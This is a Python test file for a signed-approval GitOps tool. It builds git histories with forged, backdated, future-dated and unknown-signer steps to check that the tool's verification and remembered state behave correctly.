def eventful(world: World, forger: Forger) -> list[str]:
    """A history of good, bad, healing, early and late steps; returns its commits, oldest first."""
    commits = [world.tip()]

    def grow(files: Files) -> None:
        commits.append(forger.commit([commits[-1]], files))

    def record(request: str, minutes: int, *, lands: bool = False) -> None:
        moment = stamp(timedelta(minutes=minutes))
        made = Forgery(forger, request).submit(world.alice, at=moment).approve(world.bob, at=moment)
        if lands:
            made.complete(world.alice, at=moment, base=commits[-1])
        content = forger.record(*made.lines).decode()
        grow({**(made.files if lands else {}), made.path: content})

    grow({"docs/a.md": "x\n"})
    record("first", -20)
    record("second", -24)
    record("third", -28)
    commits.append(forger.commit([commits[-1]], {}, tree_of=commits[3]))
    grow({"policies/apps.yaml": None})
    grow({"docs/b.md": "x\n"})
    commits.append(forger.commit([commits[-1]], {}, tree_of=commits[3]))
    record("fourth", -10, lands=True)
    record("fifth", -14)
    record("sixth", -16)
    return commits


def test_h29_going_on_from_a_memory_tells_what_a_full_walk_tells(world: World, forger: Forger) -> None:
    """Wherever the clone looked in between: the latest step time goes along."""
    commits = eventful(world, forger)
    repository = Repository.open(world.alice.clone, world.variables())
    verdicts = {}
    for end, tip in enumerate(commits):
        whole = walk(repository, Memory(commits[0]), tip, NOW)
        verdicts[tip] = whole
        for middle in commits[:end]:
            seen = verdicts[middle]
            memory = Memory(seen.good.commit, seen.good.time, seen.bad)
            assert told(walk(repository, memory, tip, NOW)) == told(whole)
    good = [verdicts[commit].tip_is_good for commit in commits]
    assert good == [True, True, True, True, False, True, False, False, True, True, True, False]


def test_h29_the_memory_of_a_clone_holds_the_latest_step_time(world: World, forger: Forger) -> None:
    """A step dated back is refused by the clone that saw the one before and by the one that did not."""
    Forgery(forger).submit(world.alice).approve(world.bob).complete(world.alice).land()
    world.dave.maa("requests")
    earlier = stamp(timedelta(minutes=-6))
    late = Forgery(forger, "late", {APP: app(description="Newer.")})
    late.submit(world.alice, at=earlier).approve(world.bob, at=earlier).complete(world.alice, at=earlier).land()
    for name in ("dave", "bob"):
        assert applied(world) == (3, "outOfTime")
        answer = world.people[name].maa("check", "late", "--format", "json", code=None)
        assert answer.code == 3
    assert verified(world) == (3, ["outOfTime"])


def test_h29_what_only_the_clock_refuses_is_not_gone_on_from(world: World, forger: Forger) -> None:
    """A step dated ahead is bad today and may be good tomorrow: until then every walk is a whole one."""
    start = world.tip()
    ahead = Forgery(forger, "ahead").submit(world.alice, at=stamp(timedelta(minutes=10)))
    ahead.files = {}
    early = ahead.land()
    forger.push(forger.commit([early], {"docs/note.md": "x\n"}, tree_of=start))
    repository = Repository.open(world.alice.clone, world.variables())
    today, tomorrow = (walk(repository, Memory(start), world.tip(), NOW + timedelta(days=days)) for days in (0, 1))
    assert (today.tip_is_good, tomorrow.tip_is_good) == (True, False)
    memory = world.dave.clone / ".git" / "maa" / "verified" / "main.json"
    for _ in range(2):
        world.dave.maa("requests")
        assert world.dave.git("rev-parse", "refs/maa/verified/main") == world.tip()
        assert not memory.exists()
    forger.push(early, force=True)
    assert world.dave.maa("requests", "--format", "json", code=3).error["code"] == "lostChain"


def test_h29_a_step_that_is_bad_anyhow_keeps_nobody_from_remembering(world: World, forger: Forger) -> None:
    """Whoever can push but not sign does not make every walk a whole one with a date far ahead."""
    good = world.tip()
    ahead = Forgery(forger, "ahead").submit(world.key("mallory")[0], "alice", at="9999-01-01T00:00:00Z")
    ahead.files = {}
    forger.push(forger.commit([ahead.land()], {"docs/note.md": "x\n"}, tree_of=good))
    world.dave.maa("requests")
    assert (world.dave.clone / ".git" / "maa" / "verified" / "main.json").exists()
    assert verified(world) == (0, ["outOfTime", "unknownSigner"])


def test_the_forgeries_are_signed_by_openssh_alone(world: World, forger: Forger) -> None:
    """What these tests stand on: the lines verify without any code of ours."""
    request = Forgery(forger).submit(world.alice)
    fields = json.loads(request.lines[0])
    signature = world.folder / "signature"
    signature.write_text(fields.pop("signature"))
    signers = world.folder / "signers"
    signers.write_text(f"alice {world.alice.public_key}\n")
    arguments = ["-f", str(signers), "-I", "alice", "-n", "maa-gitops", "-s", str(signature)]
    subprocess.run(["ssh-keygen", "-Y", "verify", *arguments], input=canonical(fields), check=True, capture_output=True)
